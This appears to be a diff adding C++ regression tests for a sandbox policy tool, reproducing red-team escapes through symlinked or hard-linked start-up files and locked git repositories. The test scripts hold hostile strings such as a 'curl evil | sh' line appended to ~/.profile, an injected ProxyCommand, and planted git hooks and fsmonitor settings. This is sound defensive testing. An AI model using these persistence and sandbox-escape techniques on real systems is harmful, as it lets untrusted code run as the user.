@@ -1,0 +1,113 @@
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <boost/test/data/monomorphic.hpp>
+#include <boost/test/data/test_case.hpp>
+#include <boost/test/unit_test.hpp>
+#include <string>
+
+#include "sandbox_fixture.hpp"
+
+// Red team round 17 (hunt17, docs/redteam-2026-12.md): members of issue 14's classes
+// nobody listed. Each case is a finding's reproduction, observed from the host.
+namespace zpolicy::tests::kernel {
+namespace bdata = boost::unit_test::data;
+
+BOOST_AUTO_TEST_SUITE(kernel_hunt17)
+
+namespace {
+
+RunResult sh_in(const Sandbox& box, const std::string& cwd, const std::string& script) {
+  RunSpec spec;
+  spec.cwd = cwd;
+  spec.command = {"sh", "-c", script + "; echo " + std::string(kDoneMarker)};
+  return box.run(spec);
+}
+
+}  // namespace
+
+// H17-1: ZP003 read a *tree* entry (~/.ssh, ~/.config/git, ~/.config/systemd,
+// ~/.config/fish) by its own name only; a symlink inside it into the workspace (a dotfiles
+// repository: `~/.ssh/config -> ~/dotfiles/ssh_config`, a unit `systemctl --user link`
+// made) let `cd ~/dotfiles && zpolicy run` rewrite what ssh, git, systemd and fish read
+// as the user's own (ProxyCommand, core.fsmonitor, ExecStart), dangling links too (the
+// sandbox creates the target). Both callers ran with exit 0. Now ZP003 refuses (exit 3).
+BOOST_DATA_TEST_CASE(a_symlink_inside_a_start_up_tree_into_the_workspace_is_refused,
+                     bdata::make(kCallers), caller) {
+  struct Member {
+    const char* dir;   // below the home
+    const char* link;  // its name there
+    const char* up;    // from dir back to the home
+  };
+  for (const Member m : {Member{".ssh", "config", ".."}, Member{".config/git", "config", "../.."},
+                         Member{".config/systemd/user", "evil.service", "../../.."},
+                         Member{".config/fish", "config.fish", "../.."}}) {
+    for (const bool dangling : {false, true}) {
+      Sandbox box(caller);
+      const std::string dots = box.home() + "/dotfiles";
+      box.make_dir(dots);
+      box.make_dir(box.home() + "/" + m.dir);
+      if (!dangling) box.write_file(dots + "/target", "orig\n");
+      const std::string link = box.home() + "/" + m.dir + "/" + m.link;
+      BOOST_REQUIRE(symlink((std::string(m.up) + "/dotfiles/target").c_str(), link.c_str()) == 0);
+      const RunResult r = sh_in(box, dots, "echo 'ProxyCommand evil' > target");
+      const auto after = read_file(link);
+      BOOST_TEST((dangling ? !after.has_value() : after.value_or("") == "orig\n"),
+                 m.dir << "/" << m.link << (dangling ? " (dangling)" : "")
+                       << " rewritten: " << r.describe());
+      BOOST_TEST(r.exit_code == 3, m.dir << ": " << r.describe());
+      BOOST_TEST(r.err.find("[ZP003]") != std::string::npos, m.dir << ": " << r.describe());
+    }
+  }
+}
+
+// H17-2: a start-up file hard-linked into the workspace (`ln ~/dotfiles/profile
+// ~/.profile`, a dotfiles manager that links instead of symlinking) was not ZP003, so the
+// sandbox appended to ~/.profile through the workspace's name (both callers, exit 0). ZP004
+// refused the same for the policy file; now ZP003 refuses a listed file with other hard
+// links on a writable root's filesystem, and any such file inside a listed tree.
+BOOST_DATA_TEST_CASE(a_start_up_file_hard_linked_into_the_workspace_is_refused,
+                     bdata::make(kCallers), caller) {
+  for (const char* name : {".profile", ".ssh/authorized_keys"}) {
+    Sandbox box(caller);
+    const std::string dots = box.home() + "/dotfiles";
+    box.make_dir(dots);
+    box.make_dir(box.home() + "/.ssh");
+    box.write_file(dots + "/linked", "orig\n");
+    const std::string host_name = box.home() + "/" + name;
+    unlink(host_name.c_str());
+    BOOST_REQUIRE(link((dots + "/linked").c_str(), host_name.c_str()) == 0);
+    const RunResult r = sh_in(box, dots, "echo 'curl evil | sh' >> linked");
+    BOOST_TEST(read_file(host_name).value_or("") == "orig\n", name << " changed: " << r.describe());
+    BOOST_TEST(r.exit_code == 3, name << ": " << r.describe());
+    BOOST_TEST(r.err.find("[ZP003]") != std::string::npos, name << ": " << r.describe());
+  }
+}
+
+// H17-3: the `**/.git` walk skipped a directory it could neither list nor write; but one
+// the caller owns (mode 0111, 0000, 0100) the sandbox may chmod back: it made `locked`
+// 0755 and planted a hook and a core.fsmonitor in the repository below it, which the walk
+// never saw (nobody, exit 0; root lists every directory). Now such a directory refuses
+// the run as one the sandbox could write into already does.
+BOOST_AUTO_TEST_CASE(a_nested_repository_below_an_unlistable_directory_of_the_callers_is_refused) {
+  for (const mode_t mode : {0111, 0000, 0100}) {
+    Sandbox box(Caller::Nobody);
+    box.make_dir(box.ws("locked/repo/.git/hooks"));
+    box.write_file(box.ws("locked/repo/.git/HEAD"), "ref: refs/heads/main\n");
+    box.write_file(box.ws("locked/repo/.git/config"), "orig\n");
+    BOOST_REQUIRE(chmod(box.ws("locked").c_str(), mode) == 0);
+    const RunResult r = box.sh(
+        "chmod 755 locked && echo evil > locked/repo/.git/hooks/post-checkout && "
+        "echo '[core] fsmonitor = evil' >> locked/repo/.git/config");
+    BOOST_REQUIRE(chmod(box.ws("locked").c_str(), 0755) == 0);
+    BOOST_TEST(!exists(box.ws("locked/repo/.git/hooks/post-checkout")),
+               std::oct << mode << ": hook planted: " << r.describe());
+    BOOST_TEST(read_file(box.ws("locked/repo/.git/config")).value_or("") == "orig\n",
+               std::oct << mode << ": " << r.describe());
+    BOOST_TEST(r.exit_code == 2, std::oct << mode << ": " << r.describe());
+  }
+}
+
+BOOST_AUTO_TEST_SUITE_END()
+
+}  // namespace zpolicy::tests::kernel
